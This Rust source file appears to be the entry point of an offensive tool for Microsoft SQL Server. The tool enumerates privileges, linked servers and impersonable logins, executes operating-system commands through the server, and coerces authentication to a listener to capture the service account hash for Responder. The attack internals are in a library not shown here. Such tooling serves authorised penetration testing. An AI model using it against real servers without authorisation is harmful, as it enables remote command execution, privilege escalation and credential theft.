use std::io;

use anyhow::Context;
use clap::Parser;
use tracing_subscriber::EnvFilter;

use sqlchain::{actions, AuthConfig, Config, Engine, Server, TdsConnector};

mod args;

use args::{Action, Cli};

fn get_input() -> anyhow::Result<String> {
    let mut buf: String = String::new();
    io::stdin().read_line(&mut buf)?;

    Ok(buf.trim().to_string())
}

fn init_logging(verbose: bool) {
    let default = if verbose { "sqlchain=debug,warn" } else { "sqlchain=info,warn" };
    tracing_subscriber::fmt()
        .with_target(false)
        .with_writer(io::stderr)
        .with_env_filter(
            EnvFilter::try_from_default_env().unwrap_or_else(|_| EnvFilter::new(default)),
        )
        .init();
}

async fn run(engine: &mut Engine, action: &Action) -> anyhow::Result<()> {
    let target = engine.target().routing_name().to_string();

    match action {
        Action::Info => {
            let identity = actions::identity(engine).await?;
            println!("--> Logged in as: {} on {}", identity.login, target);
            println!("--> Mapped to user: {}", identity.user);
            if identity.public {
                println!("--> User is a member of public role");
            } else {
                println!("--> User is NOT a member of public role");
            }
            if identity.sysadmin {
                println!("--> User is a member of sysadmin");
            } else {
                println!("--> User is NOT a member of sysadmin");
            }
        }
        Action::Links => {
            let linked = actions::linked_servers(engine).await?;
            if linked.is_empty() {
                println!("[!] No linked SQL servers found on {}!", target);
            }
            for (i, comp) in linked.iter().enumerate() {
                println!("--> [{i}] {comp}");
            }
        }
        Action::Impersonable => {
            let users = actions::impersonable_logins(engine).await?;
            if users.is_empty() {
                println!("[!] Could not find any users to impersonate");
            }
            for (i, user) in users.iter().enumerate() {
                println!("[{i}] {user}");
            }
        }
        Action::Exec { command } => {
            for line in actions::exec_command(engine, command).await? {
                println!("{}", line);
            }
        }
        Action::Coerce { listener } => {
            println!("[+] Attempting auth back to get svc account hash...Check Responder!");
            actions::coerce_auth(engine, listener).await?;
        }
        Action::Query { statement } => {
            let table = actions::query(engine, statement).await?;
            print!("{}", table);
        }
        Action::Resolve => {
            let server = engine.target();
            println!("--> Alias: {}", server.routing_name());
            println!("--> Hostname: {}", server.hostname);
            println!(
                "--> Version: {}",
                server.version.as_deref().unwrap_or("unknown")
            );
            println!(
                "--> Database: {}",
                server.database.as_deref().unwrap_or("unknown")
            );
            println!("--> Legacy: {}, Azure: {}", server.legacy, server.cloud);
        }
    }
    Ok(())
}

#[async_std::main]
async fn main() -> anyhow::Result<()> {
    let cli = Cli::parse();
    init_logging(cli.verbose);

    let mut config = match &cli.config {
        Some(path) => Config::load(path)?,
        None => Config::default(),
    };
    cli.apply(&mut config);

    if config.connection.host.is_none() {
        println!("Enter FQDN of host:");
        config.connection.host = Some(get_input()?);
    }
    if let AuthConfig::Sql { username, password } = &mut config.connection.auth {
        if password.is_none() {
            println!("Enter password for {}:", username);
            *password = Some(get_input()?);
        }
    }
    config.validate()?;

    let connector = TdsConnector::new(&config.connection)?;
    println!("[+] Connecting to database...");
    let channel = connector
        .connect()
        .await
        .with_context(|| format!("[!] Auth failed against {}", connector.host()))?;
    println!("[+] Auth OK!");

    let server = Server::direct(connector.host())
        .with_port(connector.port())
        .using_database(config.connection.database.clone());
    let mut engine = Engine::new(Box::new(channel), server, config.execution.clone());
    engine.identify_direct().await;

    if let Some(chain) = cli.chain.clone() {
        engine.set_chain(chain);
        engine.resolve_execution_context().await;
    }

    let outcome = run(&mut engine, &cli.action).await;
    if let Err(e) = engine.close().await {
        tracing::debug!("closing connection: {}", e);
    }
    outcome
}
